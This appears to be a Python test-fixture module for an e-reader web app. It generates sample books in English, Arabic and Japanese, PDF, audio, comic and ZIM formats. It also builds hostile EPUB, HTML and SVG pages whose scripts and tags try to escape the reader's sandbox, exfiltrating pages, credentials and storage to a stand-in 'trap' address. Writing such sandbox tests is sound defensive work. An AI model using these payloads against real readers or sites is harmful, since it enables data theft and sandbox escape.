"""Books of all kinds for real browsers, made here: a few pages each, in English, Arabic and Japanese, and
some that try all they can to get out."""

import io
from collections.abc import Sequence

from PIL import Image, ImageDraw

from satchel.core.library.item import Direction
from satchel.core.library.kinds import COMIC_TYPE, EPUB_TYPE, PDF_TYPE, ZIM_TYPE, Kind
from satchel.ports.books import Chapter, Resource
from satchel.web.reading import ShownBook
from web.shown_books import Looker, epub, shown

HTML = "text/html; charset=utf-8"
MEANT = "All that is above was meant to get out."
ENGLISH = (
    "<p>" + "The river carried the stones down to the village, and nobody asked from where. " * 12 + "</p>"
)
ARABIC = "<p>" + "حَمَلَ النَّهْرُ الحِجَارَةَ إِلَى القَرْيَةِ، وَلَمْ يَسْأَلْ أَحَدٌ مِنْ أَيْنَ (2026) Stones. " * 12 + "</p>"
JAPANESE = "<p>" + "川は石を村まで運び、どこから来たのか誰も尋ねなかった。" * 20 + "</p>"
SECONDS, RATE, BLOCK = 60, 8000, 4096

Made = tuple[ShownBook, Looker]


def good() -> dict[str, Made]:
    """By a name for tests."""
    chapters = tuple(Chapter(place=str(number), title=f"Chapter {number}") for number in (1, 2))
    texts = {
        "chapter/1": Resource(media_type=HTML, body=f"<h1>Chapter 1</h1>{ENGLISH}".encode()),
        "chapter/2": Resource(media_type=HTML, body=f"<h1>Chapter 2</h1>{ENGLISH}".encode()),
    }
    pages = {
        f"page/{number}": Resource(media_type="image/png", body=_picture(number)) for number in (1, 2, 3)
    }
    entries = {
        "file/A/Main": Resource(
            media_type=HTML,
            body=b'<link rel=stylesheet href="../s.css"><h1>Archive</h1><a href="Other">Other</a>'
            b'<img src="../p.png"><p id=ran>no scripts</p>'
            b"<script>document.querySelector('#ran').textContent = 'a script ran'</script>",
        ),
        "file/A/Other": Resource(media_type=HTML, body=b"<h1>Other page</h1>"),
        "file/s.css": Resource(media_type="text/css", body=b"h1 { color: rgb(1, 2, 3) }"),
        "file/p.png": Resource(media_type="image/png", body=_picture(1)),
    }
    main = (Chapter(place="A/Main", title="Main"),)
    arabic = epub({"الأول": ARABIC, "الثاني": ARABIC}, title="حجارة النهر", language="ar", direction="rtl")
    japanese = epub(
        {"第一章": JAPANESE, "第二章": JAPANESE},
        title="川の石",
        language="ja",
        direction="rtl",
        style="html { writing-mode: vertical-rl }",
    )
    english = epub({"Chapter 1": f"<h1>Chapter 1</h1>{ENGLISH}", "Chapter 2": f"<h1>Chapter 2</h1>{ENGLISH}"})
    drawn = epub({"1": "<p>Drawn</p>", "2": "<p>Drawn again</p>"}, layout="pre-paginated")
    rtl = Direction.RIGHT_TO_LEFT
    return {
        "epub": (shown(Kind.EPUB, english, EPUB_TYPE, title="Stones of the river"), Looker(chapters, texts)),
        "arabic": (
            shown(Kind.EPUB, arabic, EPUB_TYPE, title="حجارة النهر", languages=("ar",), direction=rtl),
            Looker(
                (Chapter(place="1", title="الأول"),),
                {"chapter/1": Resource(media_type=HTML, body=ARABIC.encode())},
            ),
        ),
        "japanese": (
            shown(Kind.EPUB, japanese, EPUB_TYPE, title="川の石", languages=("ja",), direction=rtl),
            Looker(),
        ),
        "fixed": (shown(Kind.EPUB, drawn, EPUB_TYPE), Looker()),
        "pdf": (shown(Kind.PDF, pdf(["Stones", "River", "Village"]), PDF_TYPE, pages=3), Looker((), pages)),
        "audio": (shown(Kind.AUDIO, silence(), "audio/flac", title="A minute of silence"), Looker()),
        "comic": (
            shown(Kind.COMIC, b"PK", COMIC_TYPE, title="Pictures", direction=rtl, pages=3),
            Looker((), pages),
        ),
        "page": (shown(Kind.PAGE, b"<p>", "text/html", title="A page"), Looker(chapters, texts)),
        "zim": (shown(Kind.ZIM, b"ZIM", ZIM_TYPE, title="An archive"), Looker(main, entries)),
    }


def hostile(trap: str, others: Sequence[str]) -> dict[str, Made]:
    """`trap`: where a request must never come; `others`: addresses that nobody may read from a book."""
    body = attacks(trap, others)
    main = (Chapter(place="1", title="1"),)
    page = f"<!doctype html><html><head></head><body>{body}</body></html>".encode()
    book = epub(
        {"1": _as_xml(trap, others)},
        style=f"@import '{trap}/import'; body {{ background: url({trap}/css) }}",
        besides={"evil.js": f"fetch('{trap}/file')".encode()},
    )
    found = {
        "chapter/1": Resource(media_type=HTML, body=page),  # as if the limited process had been taken over
        "file/1": Resource(media_type=HTML, body=page),
        "file/a.svg": Resource(media_type="image/svg+xml", body=_svg(trap).encode()),
    }
    return {
        "hostile-epub": (shown(Kind.EPUB, book, EPUB_TYPE), Looker(main, found)),
        "hostile-page": (shown(Kind.PAGE, page, "text/html"), Looker(main, found)),
        "hostile-zim": (shown(Kind.ZIM, b"ZIM that wants out", ZIM_TYPE), Looker(main, found)),
    }


def attacks(trap: str, others: Sequence[str]) -> str:
    """A page that wants out, as HTML."""
    tries = "".join(
        f"fetch('{one}', {{credentials: 'include'}}).then((got) => got.text()).then(keep, () => 0);"
        for one in others
    )
    frames = "".join(f'<iframe src="{one}"></iframe>' for one in (f"{trap}/frame", *others))
    script = (
        "window.read = ''; const keep = (text) => { window.read += text; };"
        f"fetch('{trap}/inline').then((got) => got.text()).then(keep, () => 0);"
        f"new Image().src = '{trap}/new-image'; navigator.sendBeacon('{trap}/beacon', 'x');{tries}"
        "try { keep(window.parent.document.title) } catch {}"
        "try { keep(window.top.document.body.outerHTML) } catch {}"
        "try { keep(localStorage.length) } catch {}"
        f"try {{ window.open('{trap}/popup') }} catch {{}}"
        f"setTimeout(() => {{ try {{ window.top.location = '{trap}/top' }} catch {{}} }}, 200);"
        f"setTimeout(() => {{ try {{ location = '{trap}/self' }} catch {{}} }}, 600);"
    )
    return (
        f'<h1>1</h1><img src="x" onerror="fetch(\'{trap}/onerror\')">{frames}'
        f'<img src="{trap}/img"><img srcset="{trap}/set 2x"><link rel=stylesheet href="{trap}/link">'
        f"<style>p {{ background: url({trap}/style) }}</style>"
        f'<p style="background: url({trap}/attribute)">p</p><object data="{trap}/object"></object>'
        f'<embed src="{trap}/embed"><video poster="{trap}/poster" src="{trap}/video" autoplay></video>'
        f'<audio src="{trap}/audio" autoplay></audio><svg><image href="{trap}/svg"/></svg>'
        f'<script src="{trap}/script"></script><script>{script}</script>'
        f"<link rel=preconnect href='{trap}'><link rel=prefetch href='{trap}/prefetch'>"
        f'<meta http-equiv=refresh content="1;url={trap}/refresh">'
        f'<form id=f action="{trap}/form"><button>Go</button></form>'
        f"<a id=out href='{trap}/link-out' ping='{trap}/ping'>out</a><p id=end>{MEANT}</p>"
    )


def _as_xml(trap: str, others: Sequence[str]) -> str:
    """The same for an EPUB, whose pages are XML."""
    script = attacks(trap, others).partition("</script><script>")[2].partition("</script>")[0]
    frames = "".join(f'<iframe src="{one}"></iframe>' for one in (f"{trap}/frame", *others))
    return (
        f'<h1>1</h1><img alt="" src="x" onerror="fetch(\'{trap}/onerror\')"/><img alt="" src="{trap}/img"/>'
        f"{frames}<style>p {{ background: url({trap}/style) }}</style>"
        f'<p style="background: url({trap}/attribute)">p</p>'
        f'<object data="{trap}/object"></object><embed src="{trap}/embed"/><video poster="{trap}/poster"'
        f' src="{trap}/video"></video>'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<image xlink:href="{trap}/svg" width="9" height="9"/><script href="{trap}/svg-script"/></svg>'
        f'<script src="{trap}/script"></script><script src="evil.js"></script>'
        f'<script><![CDATA[{script}]]></script><meta http-equiv="refresh" content="1;url={trap}/refresh"/>'
        f'<form action="{trap}/form"><button>Go</button></form><link rel="preconnect" href="{trap}"/>'
        f'<p><a id="out" href="{trap}/link-out">out</a></p><p id="end">{MEANT}</p>'
    )


def _svg(trap: str) -> str:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{trap}/svg-onload\')">'
        f'<script>fetch("{trap}/svg-file")</script>'
        f'<image href="{trap}/svg-image" width="9" height="9"/></svg>'
    )


def pdf(texts: Sequence[str]) -> bytes:
    """A page for each."""
    count = len(texts)
    kids = " ".join(f"{4 + 2 * number} 0 R" for number in range(count))
    objects = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {count} >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for number, text in enumerate(texts):
        drawn = f"BT /F1 48 Tf 60 700 Td ({text}) Tj ET"
        objects.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents {5 + 2 * number} 0 R"
            " /Resources << /Font << /F1 3 0 R >> >> >>"
        )
        objects.append(f"<< /Length {len(drawn)} >>\nstream\n{drawn}\nendstream")
    out, places = b"%PDF-1.4\n", []
    for number, inner in enumerate(objects, start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n{inner}\nendobj\n".encode()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    size = len(objects) + 1
    end = f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer\n<< /Size {size} /Root 1 0 R >>\n"
    return out + f"{end}startxref\n{len(out)}\n%%EOF\n".encode()


def silence() -> bytes:
    """A minute of it, as FLAC (RFC 9639): each block says once that it is all zero."""
    blocks = SECONDS * RATE // BLOCK
    about = (RATE << 44 | 15 << 36 | blocks * BLOCK).to_bytes(8, "big")
    out = b"fLaC\x80\x00\x00\x22" + 2 * BLOCK.to_bytes(2, "big") + bytes(6) + about + bytes(16)
    for number in range(blocks):
        counted = bytes([number]) if number < 0x80 else bytes([0xC0 | number >> 6, 0x80 | number & 0x3F])
        head = b"\xff\xf8\xc4\x08" + counted
        frame = head + bytes([_crc(head, 8, 0x07)]) + b"\0\0\0"
        out += frame + _crc(frame, 16, 0x8005).to_bytes(2, "big")
    return out


def _crc(data: bytes, bits: int, polynomial: int) -> int:
    left, top = 0, 1 << bits - 1
    for byte in data:
        left ^= byte << bits - 8
        for _ in range(8):
            left = (left << 1 ^ polynomial if left & top else left << 1) & (1 << bits) - 1
    return left


def _picture(number: int) -> bytes:
    drawn = Image.new("RGB", (400, 560), "white")
    pen = ImageDraw.Draw(drawn)
    pen.rectangle((20, 20, 380, 540), outline="black", width=4)
    pen.text((180, 240), str(number), fill="black", font_size=80)
    out = io.BytesIO()
    drawn.save(out, "PNG")
    return out.getvalue()
